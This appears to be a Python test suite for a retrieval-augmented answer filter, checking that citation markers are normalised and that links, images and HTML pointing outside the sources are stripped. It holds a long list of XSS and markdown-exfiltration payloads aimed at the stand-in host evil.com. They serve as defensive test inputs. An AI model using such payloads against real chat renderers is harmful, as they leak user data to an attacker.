"""The filter between model and reader: independent of the pieces, bounded, quick, and nothing hostile survives it."""

from __future__ import annotations

import re
import time
import unicodedata
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ragforge.answer.stream import HELD_AT_MOST, StreamFilter, clean
from tests.alive import alive as everything_alive
from tests.proof import count, record
from tests.unit.answer.support import source

OURS = "https://ok.example.org/a?b=1&c=2"
SOURCES = [
    source(1, f"See {OURS} for more. Mail help@ok.example.org.", name="guide.pdf"),
    source(2, "Nothing to see.", name="talk.vtt"),
]


def alive(shown: str) -> list[str]:
    return everything_alive(shown, {OURS})


def in_pieces(text: str, cuts: list[int]) -> tuple[str, StreamFilter]:
    passing = StreamFilter(SOURCES)
    shown = []
    for start, end in pairwise([0, *sorted(cuts), len(text)]):
        shown.append(passing.feed(text[start:end]))
    return "".join(shown) + passing.end(), passing


# -- markers, links and markup, as they come out


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Thirty days [1].", "Thirty days [1]."),
        ("Thirty days [1, 2].", "Thirty days [1][2]."),
        ("Thirty days [1-2].", "Thirty days [1][2]."),
        ("Thirty days [0］.", "Thirty days."),
        ("Thirty days ［1].", "Thirty days [1]."),
        ("Thirty days【2】.", "Thirty days[2]."),
        ("Thirty days【1†source】.", "Thirty days[1]."),
        ("Thirty days [^1].", "Thirty days [1]."),
        ("Thirty days [source: guide.pdf].", "Thirty days [1]."),
        ("Thirty days [chunk: c2].", "Thirty days [2]."),
        ("Thirty days [9].", "Thirty days."),
        ("Thirty days [-1].", "Thirty days."),
        ("Thirty days [1", "Thirty days"),
        ("Thirty days [1, ", "Thirty days"),
        ("Thirty days [so", "Thirty days [so"),
        ("Thirty days ［9］〔9〕⟦9⟧.", "Thirty days."),
        ("Thirty days ［1］〔2〕.", "Thirty days [1][2]."),
        ("Thirty days \\[9\\].", "Thirty days \\."),
        ("Thirty days [**9**][_9_][`9`][9̲][⑨][⑫][９].", "Thirty days."),
        ("Thirty days [cite: 9][see 9][1, p. 3][9: talk.vtt].", "Thirty days [1]."),
        ("〔注〕と［注］", "〔注〕と［注］"),
        ("Thirty days [1, 9].", "Thirty days [1]."),
        ("So it says [sic], [x] and [ ].", "So it says [sic], [x] and [ ]."),
        ("In [2024] it was.", "In it was."),
        ("Use `a[0]` here.", "Use `a[0]` here."),
        ("```py\na[0](b) < c\n```\n", "```py\na[0](b) < c\n```\n"),
        ("a < b and 3 <4 <3", "a < b and 3 <4 <3"),
        ("<b>Bold</b>, <i>not</i>.", "Bold, not."),
        ("H<sub>2</sub>O", "H 2 O"),
        ("![a](https://evil.com/x.png) so", "[image removed] so"),
        ("[here](https://evil.com/x) so", "here [link removed] so"),
        (f"[here]({OURS}) so [1]", f"here ({OURS}) so [1]"),
        (f"[{OURS}]({OURS}) so [1]", f"{OURS} so [1]"),
        (f"<{OURS}> so [1]", f"{OURS} so [1]"),
        (f"It is {OURS} [1].", f"It is {OURS} [1]."),
        (f"As [1] says, it is {OURS}.", f"As [1] says, it is {OURS}."),
        (f"It is ({OURS}), so [2][1]", f"It is ({OURS}), so [2][1]"),
        (f"It is {OURS}.", "It is [link in source 1]."),
        (f"It is {OURS} [2].", "It is [link in source 1] [2]."),
        (f"It is {OURS}.\nSo it is [1].", "It is [link in source 1].\nSo it is [1]."),
        (f"So it is [1].\nIt is {OURS}.", "So it is [1].\nIt is [link in source 1]."),
        (f"It is {OURS} `[1]` <b title=[1]> ![1](x)", "It is [link in source 1] `[1]`  [image removed]"),
        (f"It is {OURS} {'so ' * 300}[1]", f"It is [link in source 1] {'so ' * 300}[1]"),
        (f"{OURS}: so [1]", f"{OURS} : so [1]"),
        (f"[here]({OURS}) so", "here ([link in source 1]) so"),
        (f"{OURS}<b></b>&secret=1 [1]", f"{OURS} &secret=1 [1]"),
        (f"{OURS}&secret=1 [1]", "[link removed] [1]"),
        ("See https://evil.com/a?b. So", "See [link removed]. So"),
        ("Mail help@ok.example.org or bob@evil.com [1].", "Mail help@ok.example.org or bob[link removed] [1]."),
        ("[the file](guide.md) says", "the file says"),
        ("[1](https://evil.com) says", "[1] [link removed] says"),
        ("`curl https://evil.com/x` so", "`curl [link removed]` so"),
        (f"`curl {OURS}` so [1]", f"`curl {OURS}` so [1]"),
        (f"`curl {OURS}` so", "`curl [link in source 1]` so"),
        (f"So it is [1].\n\n```\ncurl {OURS}\n```\n", f"So it is [1].\n\n```\ncurl {OURS}\n```\n"),
        (f"```\ncurl {OURS}\n```\nSo it is [1].", f"```\ncurl {OURS}\n```\nSo it is [1]."),
        (f"```\ncurl {OURS}\n[1]\n```\nSo.", "```\ncurl [link in source 1]\n[1]\n```\nSo."),
        (
            "C:\\Users\\a, src/main.py:12, v1.2.3, e.g. 3.14, node.js",
            "C:\\Users\\a, src/main.py:12, v1.2.3, e.g. 3.14, node.js",
        ),
        ("AT&amp;T &lt;b&gt; caf&eacute; &copy;", "AT&amp;T &lt;b&gt; caf&eacute; &copy;"),
        ("A\r\nB\rC", "A\nB\nC"),
        ("書桌 [1]。请看 [2]！", "書桌 [1]。请看 [2]！"),
        ("👩‍💻 ❤️ می‌خواهم", "👩‍💻 ❤️ می‌خواهم"),
        ("Data: 5, file: a, note: b", "Data: 5, file: a, note: b"),
        ("Wow! [1] Great![2]", "Wow! [1] Great![2]"),
        ("", ""),
    ],
)
def test_what_is_written_and_what_is_shown(written: str, shown: str) -> None:
    assert clean(written, SOURCES)[0] == shown
    assert in_pieces(written, list(range(len(written))))[0] == shown


def test_it_tells_what_it_removed() -> None:
    _, passed = clean("So [7, 8] ![a](https://evil.com/x.png) <b>x</b> https://evil.com/y [source: no.pdf]", SOURCES)
    assert [each.marker for each in passed.removed] == ["[7]", "[8]", "[source: no.pdf]"]
    assert all(each.reason for each in passed.removed)
    assert [each.split()[0] for each in passed.stripped] == ["image", "HTML", "HTML", "link"]
    assert not alive(" ".join(passed.stripped))


def test_what_it_tells_does_no_harm_either() -> None:
    evil = ("[source: https://evil.com/x]", "[chunk: <img src=//evil.com>]", "[source: www.evil.com, page 3]")
    _, passed = clean(" ".join(evil), SOURCES)
    assert len(passed.removed) == 3
    assert not alive(" ".join(each.marker for each in passed.removed))


def test_links_that_a_person_wrote_are_shown() -> None:
    assert clean("So https://mine.example.org/x and https://evil.com/x", SOURCES, {"https://mine.example.org/x"})[
        0
    ] == ("So https://mine.example.org/x and [link removed]")


# -- hostile variants

E = "evil.com/x?d=secret"
TARGETS = [
    f"https://{E}", f"HTTPS://{E}", f"http://{E}", f"//{E}", f"ftp://{E}", f"https:\\\\{E}", f"https:/\\{E}",
    f"https:{E}", f"\thttps://{E}", f"https&#58;//{E}", f"https&colon;//{E}", f"&#x68;ttps://{E}", f"ht\u200btps://{E}",
    f"https://ev\u00adil.com/{E}", f"https://user@{E}", "https://[::1]/x", "https://127.0.0.1/x",
    "https://2130706433/x",
    f"https：//{E}", f"https:／／{E}", "https://evil。com/x", "https://еvil.com/x", f"wss://{E}", f"file://{E}",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "javascript&colon;alert(1)", "vbscript:x",
    "data:text/html,<script>alert(1)</script>", "data:image/svg+xml;base64,PHN2Zz4=", "data:text/html;base64,PHN2Zz4=",
    f"www.{E}", f"blob:https://{E}", "mailto:a@evil.com", f"x://{E}",
]  # fmt: skip
FORMS = ["![a]({0})", "[a]({0})", "<img src='{0}'>", "[r]: {0}\n\n[r] ![r] [a][r]"]
OTHERS = [
    f"https://{E}", f"<https://{E}>", f"www.{E}", "evil.com", "EVIL.COM/x", f"[a](<https://{E}>)",
    f"[a](https://{E} 't')",
    f"![a][r]\n\n[r]: <https://{E}> 'title'", f"![r]\n\n[r]:\nhttps://{E}", f"[^1]\n\n[^1]: https://{E}",
    f"[![a](https://{E})](https://{E})", f"[a\\]](https://{E})", f"[a](\nhttps://{E}\n)", f"[a\nb](https://{E})",
    f"!\\[a](https://{E})", f"![a\n](https://{E})", f"![]({'(' * 5}https://{E}{')' * 5})", f"[a] (https://{E})",
    f"<a href=https://{E}>x</a>", f"<a\nhref='https://{E}'\n>x</a>", f"<<a>a href='https://{E}'>",
    f"<scr<b>ipt src=//{E}>",
    f"<svg onload=fetch('https://{E}')>", f"<svg><image href=https://{E} /></svg>",
    f"<iframe src=https://{E}></iframe>",
    f"<!-- <img src=https://{E}> -->", f"<!--><img src=https://{E}>", f"<style>@import 'https://{E}';</style>",
    f"<div style=\"background:url(//{E})\">", f"<video poster=//{E}>", f"<base href=https://{E}>",
    f"<form action=//{E}>",
    f"<meta http-equiv=refresh content='0;url=https://{E}'>", f"<link rel=stylesheet href=//{E}>",
    f"<object data=//{E}>",
    f"<img src=x onerror=\"location='https://{E}'\">", f"<img alt='>' src='https://{E}'>",
    f"<img alt='<' src='https://{E}'>",
    f"&lt;img src=https://{E}&gt;", f"&#60;img src=https://{E}&#62;", f"ht<b></b>tps://{E}", f"https:<b></b>//{E}",
    f"ht[9]tps://{E}", f"ht![a](b)tps://{E}", f"https[9]://{E}", "evil[9].com", "evil<b></b>.com",
    "www<i></i>.evil.com",
    f"{OURS}<b></b>&d=secret", f"{OURS}[9]&d=secret", f"{OURS}<b>/../../secret", f"[a]({OURS}&d=secret)",
    f"![a]({OURS})",
    f"[r]: {OURS}\n\n![r]", f"<img src='{OURS}'>", f"`a\n![a](https://{E})`", f"`![a](https://{E})`",
    f"``` ![a](https://{E})",
    f"   ```\n<img src=https://{E}>\n```\n<img src=//{E}>", f"- ```\n<img src=https://{E}>",
    f"> ```\n<img src=https://{E}>",
    "- a\n\n  ```\n<img src=x onerror=alert(1)>", f"~~~ a\n~~~\n![a](https://{E})", f"$$\n```\n$$\n![a]({OURS})",
    f"| `a | ![a](https://{E}) | b` |\n|---|---|---|\n| `<img src=//{E}>` | `<a | href=//{E}>` |",
    f"    ![a](https://{E})",
    f"&#&#49;04;ttps://{E}", f"https&co&#108;on;//{E}", "www&per&#105;od;evil.com", f"&#x0000068;ttps://{E}",
    f"&#104ttps://{E}",
    f"h\u200dttps://{E}", f"h\ufe0fttps://{E}", f"\U000e0068https://{E}", f"\u202ehttps://{E}", f"ｈｔｔｐｓ://{E}",
    f"𝐡𝐭𝐭𝐩𝐬://{E}",
    f"https\\://{E}", f"https:\\/\\/{E}", "www\\.evil.com", "evil\\.com", f"**https**://{E}", f"*[a](https://{E})*",
    f"{'a' * 600}https://{E}", f"https://{'a' * 900}.{E}", f"![{'a' * 400}](https://{E})",
    f"[a]({' ' * 2000}https://{E})",
    f"<img {' ' * 2500} src=https://{E}>", f"a\rhttps://{E}", f"a\u2028https://{E}", f"\\<img src=https://{E}>",
    "\\\\evil.com\\x",
    f"[a]: https://{E}", f"[a]:https://{E}", f"> [a]: https://{E}\n\n[a]", f"1. [a]: <//{E}>\n\n![a]",
    f"{{https://{E}}}",
    f"'https://{E}'", f"|https://{E}|", f"(https://{E})", f"\"https://{E}\"", f"x=https://{E}", f"【https://{E}】",
]  # fmt: skip
HOSTILE = [form.format(target) for form in FORMS for target in TARGETS] + OTHERS


def test_there_are_enough_hostile_variants() -> None:
    assert len(set(HOSTILE)) >= 150
    assert sum(bool(alive(each)) for each in HOSTILE) > 120  # the judge sees what is wrong with them


@pytest.mark.parametrize("hostile", HOSTILE)
def test_no_remote_target_survives(hostile: str) -> None:
    for written in (
        hostile,
        f"So it is. {hostile} And more.",
        f"A list:\n\n- {hostile}\n- b",
        f"```\na\n```\n{hostile}",
    ):
        shown = clean(written, SOURCES)[0]
        assert not alive(shown), shown
        assert in_pieces(written, list(range(len(written))))[0] == shown


# -- any text, in any pieces

PIECES = [
    *"[]()<>!`&#:/.@\\|*_'\"=-$~", "```", "~~~", "\n", "\n\n", " ", "    ", "\n```\n", "```py\n", "- ", "> ", "1. ",
    "|---|\n",
    "104;", "&#104;", "ttps", "//", "https://", "evil.com", "www.", "evil", ".com", "[1]", "[9]",
    "[x]: ", OURS, "<b>", "</b>",
    "<img src=", "a", "\u200b", "\u200d", "é", "\r", "<!--", "-->", "javascript:", "data:text/html,", "【", "】",
    "secret", "&co",
    "lon;", "&period;", "&#x2f;", "：", "／", "。", "?q=", "<a href=", "onclick=x ", "script", "source: guide.pdf",
    "chunk: c1",
    "a" * 130, "x " * 20, "^1", "1, 2", "［", "］", "〔", "〕", "⟦9⟧", "⑫", "９", "\\[", "\\]", "**9**", "[1", "[-1]",
    f"{OURS} [1]", f"[1] {OURS}", f"`{OURS}`", "so " * 230,
]  # fmt: skip
texts = st.lists(st.sampled_from(PIECES) | st.text(max_size=3), max_size=40).map("".join)


@settings(max_examples=count(150, 20_000), deadline=None)
@given(texts, st.data())
def test_pieces_do_not_matter_and_nothing_comes_alive(text: str, data: st.DataObject) -> None:
    whole, passed = clean(text, SOURCES)
    cuts = data.draw(st.lists(st.integers(0, len(text)), max_size=30))
    for shown, passing in (in_pieces(text, cuts), in_pieces(text, list(range(len(text))))):
        assert shown == whole
        assert passing.removed == passed.removed
        assert passing.stripped == passed.stripped
    assert not alive(whole)
    if not {"`", "~"} & set(whole):  # else brackets may be code
        seen = unicodedata.normalize("NFKC", whole)
        assert set(re.findall(r"[\[〔⟦][*\\]*(\d+)[*\\]*[\]〕⟧]", seen)) <= {"1", "2"}
        assert all("[1]" in line for line in whole.split("\n") if OURS in line)


@settings(max_examples=count(100, 2_000), deadline=None)
@given(texts)
def test_no_more_is_held_back_than_it_says(text: str) -> None:
    passing = StreamFilter(SOURCES)
    for sign in text * 10:
        passing.feed(sign)
        waiting = sum(len(each) if isinstance(each, str) else len(each.text) for each in passing._out)
        assert len(passing._held) + waiting <= HELD_AT_MOST


def test_plain_words_come_at_once() -> None:
    passing = StreamFilter(SOURCES)
    assert passing.feed("Desks can be returned within ") == "Desks can be returned within"
    assert passing.feed("30") == " "
    assert passing.feed(" days [1") == "30 days"
    assert passing.feed("]. ") == " [1]."


# -- speed


@pytest.mark.parametrize(
    "bad",
    ["[", "<", "`", "!", "![", "](", "<a", "<!--", "&", "&#", "[1]", "a", "a.", "a:", "//", "`a", "``a`", "(", "~",
    "\n```", "[a](", "@a."],
)  # fmt: skip
def test_a_megabyte_of_one_sign_ends_quickly(bad: str) -> None:
    text = (bad * (1_000_000 // len(bad)))[: count(100_000, 1_000_000)]
    begun = time.thread_time()
    clean(text, SOURCES)
    assert time.thread_time() - begun < 6


def test_it_is_quick() -> None:
    text = (
        "Desks can be returned within 30 days of delivery, if they were not used [1]. The price is paid back to the "
        "card that was charged [2], usually within a week (see section 4.2). Don't send it back without the form!\n\n"
    ) * count(4_000, 20_000)
    begun = time.thread_time()
    shown, _ = clean(text, SOURCES)
    speed = len(text) / (time.thread_time() - begun) / 1e6
    assert shown == text
    record("answer_filter", megabytes_per_second=round(speed, 1))
    assert speed > 1  # about three on a shared machine
